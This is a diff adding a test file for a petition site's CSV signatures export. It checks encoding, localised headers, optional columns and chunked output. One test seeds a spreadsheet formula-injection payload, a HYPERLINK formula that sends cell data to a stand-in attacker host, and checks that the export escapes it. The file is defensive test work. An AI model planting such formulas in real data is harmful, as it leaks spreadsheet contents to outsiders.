@@ -1,0 +1,171 @@
+import { test } from '@japa/runner'
+import testUtils from '@adonisjs/core/services/test_utils'
+import { DateTime } from 'luxon'
+import { insertSignatureRows } from '#database/seeders/signature_rows'
+import { signatureCounter } from '#services/signature_counter'
+import { EXPORT_CHUNK_SIZE } from '#services/signature_management_service'
+import { addSignature, makePetition, parseCsv } from '#tests/helpers/signatures'
+import type Petition from '#models/petition'
+import type User from '#models/user'
+
+function download(client: any, petition: Petition, owner: User, host?: string) {
+  const request = client
+    .post(`/petition/${petition.guid}/signatures/download`)
+    .withCsrfToken()
+    .loginAs(owner)
+  return host ? request.header('host', host) : request
+}
+
+test.group('Signatures export', (group) => {
+  group.each.setup(() => testUtils.db().withGlobalTransaction())
+  group.each.setup(() => signatureCounter.discard())
+
+  test('a CSV with BOM, translated header and one row per signature, named after the petition', async ({
+    client,
+    assert,
+  }) => {
+    const { petition, owner } = await makePetition({
+      allowComments: true,
+      allowOpposite: true,
+      customFields: [
+        { type: 'text', title: 'District', required: true },
+        { type: 'number', title: 'Age', required: false },
+      ],
+    })
+    const [district, age] = [...petition.customFields].sort((a, b) => a.position - b.position)
+    const signedAt = DateTime.fromISO('2026-11-20T08:30:15Z', { zone: 'utc' })
+    await addSignature(petition, {
+      firstName: 'Smith, Jr.',
+      lastName: 'O"Brien',
+      email: 'obrien@example.org',
+      comment: 'Line one,\nline "two"\r\nline three',
+      customFieldsData: { [district.id]: 'Подол, Київ', [age.id]: '42' },
+      createdAt: signedAt,
+      confirmedAt: signedAt.plus({ minutes: 5 }),
+    })
+    await addSignature(petition, {
+      firstName: 'Олена',
+      lastName: 'Коваль',
+      email: 'olena@example.org',
+      comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+      score: -1,
+      private: true,
+      active: false,
+      confirmedAt: null,
+      customFieldsData: { [district.id]: '@SUM(1+1)' },
+      createdAt: signedAt.plus({ hours: 1 }),
+    })
+
+    const response = await download(client, petition, owner)
+    response.assertStatus(200)
+    assert.match(response.header('content-type'), /^text\/csv; charset=utf-8/)
+    const today = DateTime.utc().toISODate()
+    assert.include(
+      response.header('content-disposition'),
+      `attachment; filename="${petition.slug}-signatures-${today}.csv"`
+    )
+    const text = response.text()
+    assert.isTrue(text.startsWith('\uFEFF'), 'starts with the UTF-8 byte order mark')
+    const rows = parseCsv(text.slice(1))
+    assert.lengthOf(rows, 3)
+    assert.deepEqual(rows[0], [
+      'ID',
+      'First name',
+      'Last name',
+      'E-mail',
+      'Opinion',
+      'District',
+      'Age',
+      'Support',
+      'Anonymous',
+      'Verified',
+      'Active',
+      'Signed at (UTC)',
+      'Confirmed at (UTC)',
+    ])
+    assert.deepEqual(rows[1].slice(1), [
+      'Smith, Jr.',
+      'O"Brien',
+      'obrien@example.org',
+      'Line one,\nline "two"\r\nline three',
+      'Подол, Київ',
+      '42',
+      'Yes',
+      'No',
+      'Yes',
+      'Yes',
+      '2026-11-20 08:30:15',
+      '2026-11-20 08:35:15',
+    ])
+    assert.deepEqual(rows[2].slice(1), [
+      'Олена',
+      'Коваль',
+      'olena@example.org',
+      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
+      `'@SUM(1+1)`,
+      '',
+      'No',
+      'Yes',
+      'No',
+      'No',
+      '2026-11-20 09:30:15',
+      '',
+    ])
+  })
+
+  test('without comments, opposition and fields the export leaves those columns out', async ({
+    client,
+    assert,
+  }) => {
+    const { petition, owner } = await makePetition({
+      allowComments: false,
+      allowOpposite: false,
+      customFields: [],
+    })
+    await addSignature(petition)
+    const rows = parseCsv((await download(client, petition, owner)).text().slice(1))
+    assert.deepEqual(rows[0], [
+      'ID',
+      'First name',
+      'Last name',
+      'E-mail',
+      'Anonymous',
+      'Verified',
+      'Active',
+      'Signed at (UTC)',
+      'Confirmed at (UTC)',
+    ])
+    assert.lengthOf(rows, 2)
+  })
+
+  test('the header and yes/no are in the language of the page', async ({ client, assert }) => {
+    const { petition, owner } = await makePetition({ customFields: [] })
+    await addSignature(petition)
+    const ukRows = parseCsv(
+      (await download(client, petition, owner, 'uk.undersign.test')).text().slice(1)
+    )
+    const enRows = parseCsv((await download(client, petition, owner)).text().slice(1))
+    assert.notEqual(ukRows[0][1], enRows[0][1])
+    assert.match(ukRows[0].join(' '), /[А-Яа-яІіЇїЄє]/)
+    assert.notEqual(ukRows[1][6], 'Yes')
+  })
+
+  test('several chunks give every signature exactly once, in id order', async ({
+    client,
+    assert,
+  }) => {
+    const { petition, owner } = await makePetition()
+    const count = EXPORT_CHUNK_SIZE * 2 + 17
+    await insertSignatureRows(petition.id, count, { batchSize: 500 })
+    const rows = parseCsv((await download(client, petition, owner)).text().slice(1)).slice(1)
+    assert.lengthOf(rows, count)
+    const ids = rows.map((row) => Number(row[0]))
+    assert.lengthOf(new Set(ids), count)
+    assert.deepEqual(
+      ids,
+      [...ids].sort((a, b) => a - b)
+    )
+    const emails = new Set(rows.map((row) => row[3]))
+    assert.isTrue(emails.has('signer0@example.org') && emails.has(`signer${count - 1}@example.org`))
+  })
+})
